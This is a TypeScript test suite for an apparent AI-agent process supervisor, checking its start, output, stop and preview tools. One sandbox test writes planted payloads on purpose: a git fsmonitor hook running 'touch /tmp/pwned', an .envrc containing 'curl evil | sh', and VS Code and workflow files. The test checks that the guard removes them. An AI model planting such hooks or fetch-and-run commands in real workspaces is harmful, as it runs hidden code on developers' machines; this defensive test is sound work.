// start, output and stop as the model calls them (seed 003 §4), over a real supervisor and
// real child processes.
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { Supervisor } from '../../../src/main/processes/supervisor';
import { createOutputTool } from '../../../src/main/tools/output';
import { createStartTool } from '../../../src/main/tools/start';
import { sandboxStatus, testSandbox } from '../../support/sandbox';
import { createStopTool } from '../../../src/main/tools/stop';
import { createPreviewTool } from '../../../src/main/tools/preview';
import { createPortResolver } from '../../../src/main/preview/ports';
import {
  FAMILY,
  databaseWithAgents,
  familyPids,
  killQuietly,
  removeTempDirs,
  tempDir,
  toolContext,
  waitGone,
} from '../processes/helpers';

const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  removeTempDirs();
});

function setup(settleMs = 300) {
  const dataDir = tempDir('paddock-data-');
  const db = databaseWithAgents(dataDir, ['alice', 'bob']);
  const supervisor = new Supervisor({ db, dataDir, killGraceMs: 500 });
  cleanups.push(async () => {
    await supervisor.stopAll();
    db.close();
  });
  const ws = tempDir('paddock-ws-');
  fs.copyFileSync(FAMILY, path.join(ws, 'family.cjs'));
  fs.writeFileSync(path.join(ws, 'idle.js'), "console.log('ready'); setInterval(() => {}, 1000);\n");
  fs.writeFileSync(path.join(ws, 'fail.js'), "console.error('boom'); process.exit(2);\n");
  // Uncontained here: these tests follow host pids the family prints (the escape suite covers the sandbox).
  const deps = { supervisor, settleMs };
  const ctx = (agentId = 'alice') => toolContext({ workspace: ws, agentId, dataDir });
  return {
    supervisor,
    ws,
    ctx,
    dataDir,
    start: createStartTool(deps),
    output: createOutputTool(deps),
    stop: createStopTool(deps),
  };
}

type Result = { ok: true; text: string; data?: unknown } | { ok: false; status?: number; error: string };
const text = (result: Result): string => (result.ok ? result.text : `ERROR ${result.error}`);

describe('start / output / stop tools', () => {
  it('start is tiered like run and is replay-unsafe; output and stop are auto', async () => {
    const { start, output, stop, ctx, supervisor, dataDir } = setup();
    expect(start.effects.replaySafe).toBe(false);
    expect((await start.tierFor({ name: 'web', command: 'node idle.js' }, ctx())).tier).toBe('gated');
    const contained = createStartTool({ supervisor, sandbox: testSandbox({ dataDir }) });
    if (sandboxStatus().available)
      expect((await contained.tierFor({ name: 'web', command: 'node idle.js' }, ctx())).tier).toBe('auto');
    expect((await start.tierFor({ name: 'web', command: 'npx vite' }, ctx())).tier).toBe('gated');
    expect((await output.tierFor({ name: 'web' }, ctx())).tier).toBe('auto');
    expect((await stop.tierFor({ name: 'web' }, ctx())).tier).toBe('auto');
  });

  it('starts, reads output with a cursor, and stops the whole group', async () => {
    const { start, output, stop, ctx } = setup();
    const started = await start.run({ name: 'web', command: 'node family.cjs --listen', port: 3000 }, ctx());
    expect(text(started)).toMatch(
      /^started `web` \(node family\.cjs --listen\) in the workspace on port 3000, pid \d+/,
    );
    let latest = '';
    const deadline = Date.now() + 20_000;
    while (!latest.includes('listening') && Date.now() < deadline) {
      latest = text(await output.run({ name: 'web' }, ctx()));
      if (!latest.includes('listening')) await new Promise((resolve) => setTimeout(resolve, 25));
    }
    const pids = familyPids(latest);
    expect(pids).not.toBeNull();
    cleanups.push(() => killQuietly(pids ? [pids.parent, pids.grandchild] : []));
    expect(latest).toMatch(/^`web` \(running\); next: \d+\n/);
    const next = Number(/next: (\d+)/.exec(latest)?.[1]);
    expect(text(await output.run({ name: 'web', since: next }, ctx()))).toContain('(no new output)');

    expect(text(await stop.run({ name: 'web' }, ctx('bob')))).toMatch(/belongs to another agent/);
    expect(text(await stop.run({ name: 'web' }, ctx()))).toMatch(
      /^stopped `web` \(pid \d+\): its whole process group was ended\.$/,
    );
    if (pids) await waitGone([pids.parent, pids.grandchild]);
    expect(text(await output.run({ name: 'web' }, ctx()))).toMatch(/^`web` \(stopped\)/);
  });

  it('reports a process that fails at once, with its output', async () => {
    // A generous settle: start returns as soon as the process exits, so it costs nothing here.
    const { start, ctx } = setup(30_000);
    const result = await start.run({ name: 'bad', command: 'node fail.js' }, ctx());
    expect(text(result)).toBe('`bad` (node fail.js) exited at once with code 2.\nboom\n');
  });

  it('refuses a 5th process and a name another agent holds', async () => {
    const { start, ctx } = setup();
    for (const name of ['a', 'b', 'c', 'd'])
      expect((await start.run({ name, command: 'node idle.js' }, ctx())).ok).toBe(true);
    const fifth = await start.run({ name: 'e', command: 'node idle.js' }, ctx());
    expect(fifth).toMatchObject({ ok: false, status: 409 });
    expect(text(fifth)).toContain('this agent already runs 4 processes');
    const taken = await start.run({ name: 'a', command: 'node idle.js' }, ctx('bob'));
    expect(text(taken)).toContain('the name `a` belongs to agent');
  });

  it('is refused without a workspace, and for an unknown name', async () => {
    const { start, output, stop, ctx } = setup();
    const none = toolContext({ workspace: null });
    expect(await start.run({ name: 'x', command: 'node idle.js' }, none)).toMatchObject({ ok: false, status: 403 });
    expect(await output.run({ name: 'x' }, none)).toMatchObject({ ok: false, status: 403 });
    expect(await stop.run({ name: 'x' }, none)).toMatchObject({ ok: false, status: 403 });
    expect(text(await output.run({ name: 'nope' }, ctx()))).toContain('no process named `nope`');
    expect(text(await stop.run({ name: 'nope' }, ctx()))).toContain('no process named `nope` is running');
  });
});

describe('start returns when the process is ready (issue 16)', () => {
  async function freePort(): Promise<number> {
    const server = net.createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    await new Promise((resolve) => server.close(resolve));
    return port;
  }

  function slowServer(ws: string, port: number | null): string {
    // Listens after 3 s and prints nothing that reads as ready: only the port says it is up.
    const file = path.join(ws, 'slow.cjs');
    fs.writeFileSync(
      file,
      `const http = require('node:http');\nsetTimeout(() => http.createServer((q, s) => s.end('ok')).listen(${port ?? 0}, '127.0.0.1'), 3000);\nsetInterval(() => {}, 1000);\n`,
    );
    return 'node slow.cjs';
  }

  it.each([true, false])(
    'start then preview at once succeeds against a server that takes 3 s to listen (port declared: %s)',
    async (declared) => {
      const { supervisor, ws, ctx } = setup();
      const start = createStartTool({ supervisor, settleMs: 10_000 });
      const resolve = createPortResolver({ lookup: supervisor, ownPorts: () => [] });
      const preview = createPreviewTool({
        lookup: supervisor,
        preview: { resolve, inspect: async () => ({ ok: true, absoluteAssets: false }) },
      });
      const port = await freePort();
      const began = Date.now();
      const started = await start.run(
        { name: 'slow', command: slowServer(ws, port), ...(declared ? { port } : {}) },
        ctx(),
      );
      expect(text(started)).toContain(`It is listening on port ${port}.`);
      expect(Date.now() - began).toBeGreaterThanOrEqual(2_500);
      const shown = await preview.run({ name: 'slow' }, ctx());
      expect(text(shown)).toBe('The preview of "slow" is shown in the owner’s side pane.');
    },
    30_000,
  );

  it('says plainly when the process is not listening after the bounded wait', async () => {
    const { supervisor, ws, ctx } = setup();
    fs.writeFileSync(path.join(ws, 'quiet.js'), 'setInterval(() => {}, 1000);\n');
    const start = createStartTool({ supervisor, settleMs: 600 });
    const result = await start.run({ name: 'quiet', command: 'node quiet.js', port: 4999 }, ctx());
    expect(text(result)).toMatch(
      /It is not listening yet after \d+ s; call output \{name: "quiet", since: \d+\} to see why/,
    );
  });
});

describe.skipIf(!sandboxStatus().available)(
  'start: what a long-lived contained process may not plant (SPEC §4)',
  () => {
    it('what it plants (.git with fsmonitor, .vscode, a workflow, .envrc) is moved out at once and it is stopped; ordinary work stays', async () => {
      const { supervisor, ws, dataDir, ctx } = setup();
      const planter = [
        "const fs = require('node:fs');",
        "fs.mkdirSync('.git/hooks', { recursive: true });",
        "fs.writeFileSync('.git/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n');",
        "fs.mkdirSync('.vscode'); fs.writeFileSync('.vscode/tasks.json', '{}');",
        "fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/x.yml', 'on: push');",
        "fs.writeFileSync('.envrc', 'curl evil | sh\\n');",
        "fs.writeFileSync('ordinary.txt', 'fine\\n');",
        "console.log('planted');",
        // It would keep running: the guard stops it.
        'setTimeout(() => process.exit(0), 60_000);',
      ].join('\n');
      fs.writeFileSync(path.join(ws, 'plant.cjs'), planter);
      const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
      const output = createOutputTool({ supervisor });
      await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx());
      const deadline = Date.now() + 20_000;
      let said = '';
      while (Date.now() < deadline) {
        said = text(await output.run({ name: 'planter' }, ctx()));
        if (said.startsWith('`planter` (stopped)')) break;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect(said).toMatch(/^`planter` \(stopped\)/);
      expect(said).toContain('`planter` was stopped');
      for (const name of ['.git', '.vscode', '.github/workflows', '.envrc'])
        expect(fs.existsSync(path.join(ws, name)), name).toBe(false);
      expect(fs.readFileSync(path.join(ws, 'ordinary.txt'), 'utf8')).toBe('fine\n');
      const refused = fs.readdirSync(path.join(dataDir, 'refused'));
      for (const name of ['-.git', '-.vscode', '-.envrc'])
        expect(
          refused.some((kept) => kept.endsWith(name)),
          name,
        ).toBe(true);
    }, 30_000);

    it('leaves the owner’s own .vscode alone, and the owner’s editor writes into it while the process runs', async () => {
      const { supervisor, ws, dataDir, ctx } = setup();
      fs.mkdirSync(path.join(ws, '.vscode'));
      fs.writeFileSync(path.join(ws, 'wait.cjs'), 'setTimeout(() => process.exit(0), 1500);\n');
      const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
      await start.run({ name: 'waiter', command: 'node wait.cjs' }, ctx());
      // The owner's editor writes settings while the process runs (outside the sandbox).
      fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
      const deadline = Date.now() + 20_000;
      while (
        Date.now() < deadline &&
        supervisor.list().some((row) => row.name === 'waiter' && row.status === 'running')
      )
        await new Promise((resolve) => setTimeout(resolve, 100));
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{}\n');
      expect(supervisor.output('alice', 'waiter').status).toBe('exited');
      expect(fs.existsSync(path.join(ws, '.idea'))).toBe(false);
    }, 30_000);
  },
);
